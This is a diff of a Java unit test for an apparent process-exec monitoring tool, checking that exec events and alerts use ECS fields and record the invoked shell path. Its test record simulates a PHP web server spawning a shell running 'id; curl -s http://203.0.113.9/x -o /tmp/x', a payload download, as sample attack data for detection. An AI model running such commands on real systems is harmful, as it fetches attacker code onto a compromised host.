@@ -80,8 +80,11 @@ class EcsSchemaTest {
 
     @Test
     void shouldWriteOnlyEcsFieldsOfTheRightTypeInExecEventsAndAlerts() throws Exception {
-        wrap(TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html", "/usr/sbin/php-fpm8.2",
-                33, 100, 2, "sh", "-c", "id; curl -s http://203.0.113.9/x -o /tmp/x"));
+        // PHP's shell: /bin/sh, which Debian runs as /usr/bin/dash (the invoked path is written too).
+        wrap(TestRecords.startedAs(TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html",
+                "/usr/sbin/php-fpm8.2", 33, 100, 2, "sh", "-c", "id; curl -s http://203.0.113.9/x -o /tmp/x"),
+                "/bin/sh"));
+        assertEquals("/bin/sh", render(null).at("/spawnwatch/process/invoked_path").asText());
         assertEquals(List.of(), check(null));
         for (RuleMetadata rule : shippedRules()) {
             if (rule.eventType() == io.spawnwatch.event.EventType.EXEC) {
